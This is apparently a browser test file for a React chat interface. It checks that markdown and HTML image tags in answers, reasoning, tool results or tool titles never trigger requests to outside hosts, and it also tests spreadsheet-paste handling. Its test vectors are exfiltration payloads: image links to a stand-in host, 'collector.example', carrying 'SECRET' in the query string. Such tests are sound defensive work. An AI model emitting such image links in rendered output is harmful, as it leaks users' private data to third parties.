import { tool } from 'countersign'
import { ThreadProvider } from 'countersign/react'
import 'countersign/styles.css'
import { Chat } from 'countersign/ui'
import { beforeEach, describe, expect, it, vi } from 'vitest'
import { render } from 'vitest-browser-react'
import { storyAgent } from '../../stories/story-agent.ts'
import { type StoryLog, storyLog } from '../../stories/story-log.ts'
import { loadMarkdown } from '../../src/ui/markdown/index.ts'
import { nextFrame, type ShownChat, showChat } from './stage.tsx'

/*
 * Faults that others had with what a chat shows and takes, by what must be true instead. Their ids are
 * those of a collection of public reports; each input is written here.
 */

describe('H-SEC-01: a remote image', () => {
  const vectors = [
    '![x](https://collector.example/p.png?q=SECRET)',
    '![x][r]\n\n[r]: //collector.example/q.png?q=SECRET',
    '<img src=https://collector.example/r.png?q=SECRET>',
    '<span style="background:url(https://collector.example/s.png)">a</span>',
  ]
  const places: Readonly<Record<string, (log: StoryLog, text: string) => Promise<void>>> = {
    'the text of an answer': streamed((log) => log.text('', 'open')),
    reasoning: streamed((log) => log.reasoning('', 'open')),
    'the result of a tool': async (log, text) => {
      log.ended(log.call('client.titled'), 'returned', text)
    },
    'the title of a tool': async (log) => {
      log.call('client.titled')
    },
  }

  beforeEach(async () => {
    await loadMarkdown()
  })

  function streamed(begin: (log: StoryLog) => void) {
    return async (log: StoryLog, text: string) => {
      begin(log)
      for (const letter of text) {
        log.grow(letter)
        await nextFrame()
      }
    }
  }

  /** Whatever the page asks others for while something happens. */
  async function asked(happen: () => Promise<void>): Promise<readonly string[]> {
    const names: string[] = []
    const watch = new PerformanceObserver((list) => {
      for (const { name } of list.getEntries()) names.push(name)
    })
    watch.observe({ type: 'resource' })
    await happen()
    await nextFrame()
    names.push(...watch.takeRecords().map(({ name }) => name))
    watch.disconnect()
    return names.filter((name) => new URL(name).origin !== location.origin)
  }

  /** What loads something by itself. */
  const LOADS =
    '[src], [srcset], [style*=url], link, picture, object, embed, iframe, video, [background]'

  for (const [place, write] of Object.entries(places)) {
    it.each(vectors)(`is not asked for in ${place}: %s`, async (text) => {
      const titled = tool({ name: 'titled', title: text, description: 'Titled', run: () => '' })
      const log = storyLog()
      log.user('Go')
      log.step()
      const agent = storyAgent(log, { tools: [titled] })
      const elements = vi.fn<(found: Element | null) => void>()
      const names = await asked(async () => {
        const { container, unmount } = await render(
          <ThreadProvider agent={agent} threadId="thr_story">
            <Chat />
          </ThreadProvider>,
        )
        const watch = new MutationObserver(() => elements(container.querySelector(LOADS)))
        watch.observe(container, { subtree: true, childList: true, attributes: true })
        await write(log, text)
        await nextFrame()
        container.querySelector<HTMLElement>('.cs-tool-trigger')?.click()
        await nextFrame()
        expect(container.textContent).toMatch(/collector\.example|x/)
        watch.disconnect()
        await unmount()
      })
      expect(names).toEqual([])
      expect(elements.mock.calls.filter(([found]) => found)).toEqual([])
      expect(elements).toHaveBeenCalled()
    })
  }
})

describe('H-UI-06: cells that are pasted from a spreadsheet', () => {
  const paste = (chat: ShownChat, data: DataTransfer): boolean => {
    const field = chat.page.getByRole('textbox', { name: 'Message' }).element()
    return !field.dispatchEvent(
      new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }),
    )
  }
  const picture = (): DataTransfer => {
    const data = new DataTransfer()
    data.items.add(new File([Uint8Array.of(137, 80, 78, 71)], 'cells.png', { type: 'image/png' }))
    return data
  }
  const files = (chat: ShownChat) => chat.page.getByRole('list', { name: 'Files to send' })

  it('are left to the browser as the text that they are', async () => {
    const chat = await showChat()
    const data = picture()
    data.setData('text/plain', 'A\tB\n1\t2')
    data.setData('text/html', '<table><tr><td>A<td>B<tr><td>1<td>2</table>')
    expect(paste(chat, data)).toBe(false)
    await nextFrame()
    expect(files(chat).elements()).toHaveLength(0)
  })

  it('are a file where there is only a picture', async () => {
    const chat = await showChat()
    expect(paste(chat, picture())).toBe(true)
    await expect.element(files(chat).getByText('cells.png', { exact: true })).toBeVisible()
  })

  it('are nothing, and no error, where no files are taken', async () => {
    const errors = vi.spyOn(console, 'error')
    const chat = await showChat(() => {}, { attachments: 'none' })
    paste(chat, picture())
    await nextFrame()
    expect(files(chat).elements()).toHaveLength(0)
    // The place where errors are announced is there, and empty.
    const alerts = chat.page.getByRole('alert').elements()
    expect(alerts.map(({ textContent }) => textContent)).toEqual([''])
    await expect
      .element(chat.page.getByRole('textbox', { name: 'Message' }))
      .not.toHaveAttribute('aria-invalid', 'true')
    expect(errors).not.toHaveBeenCalled()
  })
})
